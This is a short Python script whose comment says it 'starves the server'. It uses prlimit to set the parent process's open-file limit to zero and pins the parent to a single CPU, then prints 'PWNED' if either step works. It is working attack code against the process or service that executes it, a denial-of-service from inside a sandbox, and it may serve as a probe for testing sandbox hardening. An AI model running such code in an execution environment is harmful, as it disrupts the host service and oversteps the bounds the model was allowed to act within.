# starves the server: limits and CPU affinity of the parent process
import os, resource
hit = []
try:
    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0)); hit.append("prlimit")
except Exception as e: print(e)
try:
    os.sched_setaffinity(os.getppid(), {0}); hit.append("affinity")
except Exception as e: print(e)
try:
    os.sched_setaffinity(0, {0}); hit.append("own affinity")
except Exception as e: print(e)
if hit: print("PWNED", hit)
